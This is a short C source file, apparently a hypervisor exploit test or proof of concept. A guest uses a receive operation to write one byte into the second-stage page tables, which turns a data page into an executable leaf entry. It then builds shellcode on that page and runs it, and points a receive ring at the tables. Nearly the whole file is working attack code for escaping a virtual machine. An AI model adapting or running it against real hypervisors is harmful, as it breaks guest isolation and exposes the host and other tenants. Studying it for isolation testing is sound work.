/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Goal: make a page of data executable by the hypervisor's hand: what people type is received into
 * the second-stage tables, which lie behind the guest's memory. One letter is enough: an underscore
 * reads as a leaf entry that is valid, readable, writable, executable, the guest's and accessed.
 */
#include "attack.h"

#define LEAF    "_"
#define ENTRIES 512u /* of a table; a region of 1 MiB uses half of the only one */

static uint32_t page[1024] __attribute__((aligned(4096)));

static uint64_t entry_of(uint64_t page_number)
{
    return machine.memory_base + machine.memory_size + 8 * page_number;
}

void guest_main(void)
{
    struct orders orders;
    const uint64_t number = ((uint64_t)page - machine.memory_base) / sizeof(page);

    orders_read(&orders);
    shellcode_make(page, orders.mark);
    (void)receive_at("receive-into-tables", entry_of(number), sizeof(LEAF) - 1, LEAF);
    shellcode_run("call-data-page", page);
    (void)receive_ring_at("receive-ring-in-tables", entry_of(ENTRIES - 64));
}
